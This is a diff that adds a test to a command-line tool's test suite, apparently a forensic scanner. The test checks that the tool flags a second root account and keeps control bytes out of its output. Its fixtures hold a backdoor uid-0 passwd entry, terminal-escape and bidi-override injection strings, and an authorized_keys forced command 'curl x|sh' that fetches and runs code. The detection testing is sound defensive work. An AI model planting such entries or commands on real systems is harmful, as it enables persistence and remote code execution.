@@ -96,6 +96,28 @@ describe('calls', () => {
     expect(spamtrace('--root', sample, 'sessions', '--json')).toMatchObject({ status: 0, stdout: '', stderr: expect.stringContaining('--root') });
   });
 
+  it('tells what is wrong with accounts of a copy, in lines that hold no control byte', () => {
+    const root = join(temporary, 'accounts');
+    mkdirSync(join(root, 'etc'), { recursive: true });
+    mkdirSync(join(root, 'home/a/.ssh'), { recursive: true });
+    writeFileSync(join(root, 'etc/passwd'), 'root:x:0:0::/root:/bin/bash\nto\u001b]0;x\u0007or:x:0:0:\u202e:/home/a:/bin/bash\n');
+    writeFileSync(join(root, 'home/a/.ssh/authorized_keys'), `command="curl x|sh" ssh-ed25519 ${'A'.repeat(60)} \u001b[2J\u009b31m\n`);
+    const { status, stdout } = spamtrace('--root', root, 'accounts', '--json');
+    expect(status).toBe(0);
+    const lines = stdout
+      .trimEnd()
+      .split('\n')
+      .map((line) => JSON.parse(line) as Record<string, unknown>);
+    expect(lines.map(({ problem, severity, uid }) => [problem, severity, uid])).toContainEqual(['second-root', 'critical', 0]);
+    expect(Object.keys(lines[0] ?? {})).toEqual(['account', 'uid', 'problem', 'severity', 'evidence']);
+    for (const language of ['en', 'ru']) {
+      const shown = spamtrace('--root', root, 'accounts', '--lang', language).stdout;
+      expect(shown).toContain('/etc/passwd:2');
+      // oxlint-disable-next-line no-control-regex
+      expect(shown + stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
+    }
+  });
+
   it('is told that no mail server is here', () => {
     const empty = join(temporary, 'empty');
     mkdirSync(empty);
